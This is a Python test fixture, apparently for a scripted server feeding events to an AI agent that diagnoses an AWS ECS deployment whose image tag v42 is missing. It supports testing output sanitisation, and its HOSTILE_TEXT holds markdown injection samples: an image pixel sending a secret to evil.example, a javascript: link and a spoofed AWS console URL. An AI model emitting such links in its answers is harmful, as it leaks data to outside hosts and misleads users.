"""What the scripted server says: diagnoses of the real contract, and the events of each kind of turn."""

from typing import Any

from scripted_diagnoses import CHECKOUT, HEALTHY, HOSTILE, MARKUP, PROD, WORDED

from agent.diagnosis import to_document

Event = tuple[str, dict[str, Any]]

HOSTILE_TEXT = f"""{MARKUP}

![pixel](https://evil.example/p.png?secret=1) [the fix](https://evil.example/fix) [here](javascript:window.pwned=1)
[console](https://us-west-2.console.aws.amazon.com@evil.example/) [real](https://us-west-2.console.aws.amazon.com/ecs)
"""

ANSWER = """**The image tag v42 does not exist**, so no task of `checkout-v42` could start [E3].

The repository's newest tag is `v41` [E5]; see [E1–E4] and [E99].

1. See which tags exist
   - with the *command* below
   - or in [the console](https://us-west-2.console.aws.amazon.com/ecr/home)
2. Push `v42`

```
aws ecr describe-images --repository-name team/checkout
```
"""


def reads(number: int) -> list[Event]:
    """Return started and finished events of so many reads; the last one is refused."""
    place = {"account_id": PROD, "region": "us-west-2"}
    names = [f"ecs_describe_{n}" for n in range(number)]
    started = [("tool", {"name": name, "state": "started", **place}) for name in names]
    gap = {names[-1]: {"gap": "denied"}}
    return started + [("tool", {"name": name, "state": "finished", **place, **gap.get(name, {})}) for name in names]


def phase(name: str) -> list[Event]:
    return [("phase", {"name": name, "state": "started"}), ("phase", {"name": name, "state": "finished"})]


def text(words: str) -> list[Event]:
    """Return the words in small pieces, as a model sends them."""
    return [("text", {"delta": words[at : at + 17]}) for at in range(0, len(words), 17)]


def draft(diagnosis_id: str) -> dict[str, Any]:
    return {
        "id": "dr-1",
        "diagnosis_id": diagnosis_id,
        "account_id": PROD,
        "fingerprint": "fp-1",
        "title": "checkout-v42 (prod, us-west-2) cannot start: image tag v42 does not exist",
        "body": "## Summary\ncheckout-v42 never started.\n\n## Impact\nNone: v41 serves all traffic.\n",
        "severity": 3,
        "owner": "app team",
        "requested_by": "ana",
        "created_at": "2026-11-23T14:23:00Z",
    }


def events_for(question: str) -> list[Event]:
    """Return the events of a turn, but for its `done`."""
    opening = [*phase("resolve_target"), ("phase", {"name": "collect", "state": "started"}), *reads(14)]
    answers: dict[str, list[Event]] = {
        "hostile": [*opening, ("diagnosis", to_document(HOSTILE)), *text(HOSTILE_TEXT)],
        "ambiguous": [
            ("error", {"message": "Which cart?", "choices": ["cart-v3 in shop-prod", "cart-v3 in shop-stage"]})
        ],
        "unclear": [*text("Which cart\\_v3?\n"), ("error", {"detail": "Which cart_v3?", "choices": ["one", "two"]})],
        "unanswerable": [*opening, ("error", {"message": "AWS could not be read: the role is missing."})],
        "in words": [*opening, ("diagnosis", to_document(WORDED))],
        "payments": [*opening, ("diagnosis", to_document(HEALTHY))],
        "changed": text("Only the image: `v41` became `v42` [E2]."),
        "draft": [("ticket_draft", draft("dg-81f2"))],
    }
    for word, events in answers.items():
        if word in question:
            return events
    return [*opening, ("diagnosis", to_document(CHECKOUT)), *text(ANSWER)]
